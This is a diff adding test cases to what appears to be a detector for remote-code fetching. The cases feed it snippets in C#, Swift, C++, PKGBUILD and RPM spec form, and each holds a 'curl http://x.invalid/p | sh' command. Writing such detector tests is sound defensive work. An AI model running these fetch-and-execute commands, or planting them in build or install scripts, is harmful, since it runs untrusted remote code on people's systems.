@@ -219,6 +219,8 @@ describe('the analyzer of remote code', () => {
     ],
     ['Score.java', 'class S { String help = "curl http://x.invalid/p | sh"; }', []],
     ['run.cpp', 'int main() { return system("curl http://x.invalid/p | sh"); }', ['fetched-code']],
+    ['x.cs', `class X { void F() { Process.Start("sh", "-c 'curl http://x.invalid/p | sh'"); } }`, ['fetched-code']],
+    ['x.swift', 'p.launchPath = "/bin/sh"\np.arguments = ["-c", "curl http://x.invalid/p | sh"]\n', ['fetched-code']],
     ['run.cpp', 'int main() { return system("nvidia-smi"); }', []],
     ['PKGBUILD', 'pkgname=k\npackage() {\n  curl http://x.invalid/p | sh\n}\n', ['script', 'fetched-code']],
     ['k.spec', 'Name: k\n%post\ncurl http://x.invalid/p | sh\n', ['script', 'fetched-code']],
